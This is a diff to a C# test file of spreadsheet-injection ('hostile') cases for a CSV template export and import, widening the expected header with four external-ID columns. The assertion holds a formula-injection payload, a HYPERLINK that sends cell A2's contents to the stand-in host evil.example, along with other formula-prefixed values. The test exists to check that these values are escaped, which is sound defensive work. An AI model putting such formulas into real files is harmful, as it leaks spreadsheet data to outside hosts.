@@ -282,8 +282,8 @@ public sealed class CustomFieldHostileTests : IAsyncLifetime
         Assert.Equal(ExitCodes.Success, (await CliRun.RunAsync(_folder, Stub(liner), "template", path)).ExitCode);
 
         var header = File.ReadAllText(path, Utf8).TrimStart('\uFEFF').TrimEnd('\r', '\n');
-        Assert.EndsWith(""",instagramLogin,"'=HYPERLINK(""http://evil.example/?""&A2,""Click"")",'-2+3,'@SUM(1+1),'+7 телефон,custom:305,''=x""", header);
-        File.AppendAllText(path, "7,,,,,,,,,,,,,,site,5,=1+1,+79001234567,x,'x\r\n", Utf8);
+        Assert.EndsWith(""",instagramLogin,externalIdBitrix24,externalIdAmo,externalIdMacro,externalIdDomoplaner,"'=HYPERLINK(""http://evil.example/?""&A2,""Click"")",'-2+3,'@SUM(1+1),'+7 телефон,custom:305,''=x""", header);
+        File.AppendAllText(path, "7,,,,,,,,,,,,,,,,,,site,5,=1+1,+79001234567,x,'x\r\n", Utf8);
         var result = await CliRun.RunAsync(_folder, Stub(liner), "run", path);
 
         Assert.True(result.ExitCode == ExitCodes.Success, result.Out + result.Error + result.LogText);
